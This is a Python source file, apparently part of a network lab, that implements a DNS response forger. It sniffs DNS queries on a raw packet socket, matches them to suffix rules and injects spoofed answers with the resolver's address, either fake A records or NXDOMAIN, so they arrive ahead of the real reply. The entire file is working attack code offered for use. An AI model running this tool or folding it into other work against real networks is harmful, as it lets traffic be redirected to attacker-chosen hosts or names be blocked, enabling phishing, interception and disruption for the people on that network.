"""A forger on the way: it sees questions for names pass, and answers some of them in the resolver's name.

    forger.py INTERFACE WAIT_MS RULE...

INTERFACE is where the questions come in, WAIT_MS how long it dawdles before it answers. A rule is `SUFFIX TYPE SAYS`,
such as `ibllc.com A 198.51.100.90` or `. A nxdomain`: the first that fits a question counts. The question itself goes
on to the resolver, whose answer comes too: the client has two, and takes the first. UDP over IPv4 alone. What it says
goes out beside the router's own filters and translation, as from a device of its own on the cable.
"""

import socket
import struct
import sys
import threading
from typing import NamedTuple

import dns.message
import dns.rcode
import dns.rdatatype
import dns.rrset

from lab.inline import checksum

_ALL_IP = 0x0800
_UDP, _DNS, _HEAD, _TTL_S = 17, 53, 20, 60


class Rule(NamedTuple):
    """What is said of names of one suffix, asked for one type."""

    suffix: str
    kind: str
    says: str

    def fits(self, name: str, kind: str) -> bool:
        """Whether it speaks of a question."""
        return self.kind == kind and (self.suffix == "." or f".{name}".endswith(f".{self.suffix}"))


class Question(NamedTuple):
    """A question on its way: who asks whom, and the message."""

    source: bytes
    to: bytes
    port: int
    wire: bytes


def question(packet: bytes) -> Question | None:
    """A packet as a question for a name; None: it is none."""
    head = (packet[0] & 15) * 4
    if packet[0] >> 4 != 4 or packet[9] != _UDP or len(packet) < head + 8:  # noqa: PLR2004
        return None
    port, to_port = struct.unpack("!HH", packet[head : head + 4])
    return Question(packet[12:16], packet[16:20], port, packet[head + 8 :]) if to_port == _DNS else None


def lie(rules: list[Rule], wire: bytes) -> bytes | None:
    """The forged answer to a message; None: no rule speaks of it."""
    asked = dns.message.from_wire(wire)
    name, kind = asked.question[0].name, dns.rdatatype.to_text(asked.question[0].rdtype)
    fitting = (one for one in rules if one.fits(name.to_text(omit_final_dot=True).lower(), kind))
    rule = next(fitting, None)
    if rule is None:
        return None
    answer = dns.message.make_response(asked, recursion_available=True)
    if rule.says == "nxdomain":
        answer.set_rcode(dns.rcode.NXDOMAIN)
    else:
        answer.answer.append(dns.rrset.from_text(name, _TTL_S, "IN", kind, rule.says))
    return answer.to_wire()


def packet_of(asked: Question, answer: bytes) -> bytes:
    """An answer as the resolver would have sent it. Without a checksum, which UDP over IPv4 allows (RFC 768)."""
    udp = struct.pack("!HHHH", _DNS, asked.port, 8 + len(answer), 0) + answer
    head = struct.pack("!BBHHHBBH", 0x45, 0, _HEAD + len(udp), 0, 0, 64, _UDP, 0) + asked.to + asked.source
    return head[:10] + checksum(head) + head[12:] + udp


def main(interface: str, wait_s: float, rules: list[Rule]) -> None:
    """Watch questions for ever."""
    cable = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    cable.bind((interface, _ALL_IP))
    while True:
        packet, (*_, neighbour) = cable.recvfrom(2048)
        asked = question(packet)
        answer = lie(rules, asked.wire) if asked else None
        if asked and answer:
            forged, to = packet_of(asked, answer), (interface, _ALL_IP, 0, 0, neighbour)
            if wait_s:
                threading.Timer(wait_s, cable.sendto, (forged, to)).start()
            else:
                cable.sendto(forged, to)


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]) / 1000, [Rule(*one.split()) for one in sys.argv[3:]])
